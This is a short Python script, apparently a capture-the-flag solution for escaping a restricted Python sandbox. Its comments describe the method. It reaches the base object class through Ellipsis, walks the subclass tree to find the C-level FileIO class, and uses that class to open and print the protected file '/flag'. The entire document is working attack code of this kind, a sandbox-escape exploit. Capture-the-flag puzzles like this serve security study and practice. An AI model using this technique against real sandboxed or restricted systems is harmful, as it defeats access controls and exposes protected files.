# Recursive descent of the subclass tree starting at Ellipsis until the C
# level FileIO class is found (object -> _IOBase -> _RawIOBase -> FileIO),
# then reads the flag with it.
root = (...).__class__.__mro__[1]


def walk(k, depth=0):
    yield k
    if depth < 6:
        for s in type.__subclasses__(k):
            yield from walk(s, depth + 1)


raw = next(c for c in walk(root) if c.__name__ == 'FileIO')
with raw('/flag', 'r') as fh:
    print(fh.read())
